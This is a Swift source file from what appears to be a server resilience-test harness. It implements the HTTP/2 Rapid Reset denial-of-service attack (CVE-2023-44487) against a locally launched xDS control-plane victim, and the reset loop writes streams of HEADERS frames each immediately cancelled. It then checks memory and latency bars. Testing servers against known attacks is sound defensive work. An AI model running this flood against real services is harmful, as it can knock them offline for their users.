import EnvoyAPI
import NIOCore
import XDS

/// Opens streams and resets each one at once (CVE-2023-44487).
struct RapidReset: Attack {
    var isTLS: Bool

    var name: String { isTLS ? "rapid-reset-tls" : "rapid-reset" }
    var summary: String {
        "opens streams and resets each at once, on 2 connections\(isTLS ? " over mutual TLS" : "")"
    }
    let bar = "RSS < 300 MB, new clients < 2 s, honest p99 < 1 s"

    func play(on stage: AttackStage) async throws -> [Figure] {
        try await stage.withVictim(in: stage.makeDirectory(name), VictimConfiguration(isTLS: isTLS)) { victim in
            let duration = stage.scale.duration(10, short: 2)
            let target = try RawTarget(victim)
            let count = Shared(0)
            let connections = Shared(0)
            let exposure = try await Exposure.measure(victim) {
                let attack = PersistentAttack(target: target, connections: 2)
                connections.add(await attack.run(for: duration) { try await reset($0, count) })
            }
            return exposure.figures(Exposure.Bars(memory: 300, newClient: 2)) + [
                Figure("resets", Double(count.value), ""), Figure("connections", Double(connections.value), ""),
            ]
        }
    }

    private func reset(_ connection: RawConnection, _ count: Shared<Int>) async throws {
        let call = HeaderBlock(callOf: Method.of(.clusterLoadAssignment, .delta).path, isTLS: isTLS).bytes
        let batch = 1_000
        var stream: UInt32 = 1
        while !Task.isCancelled, stream < 0x7fff_0000 {
            var bytes = ByteBuffer()
            for _ in 0..<batch {
                bytes.writeFrame(.headers, flags: HTTP2Frame.Flag.endHeaders, stream: stream, call)
                bytes.writeReset(of: stream)
                stream += 2
            }
            try await connection.write(bytes)
            count.add(batch)
        }
    }
}
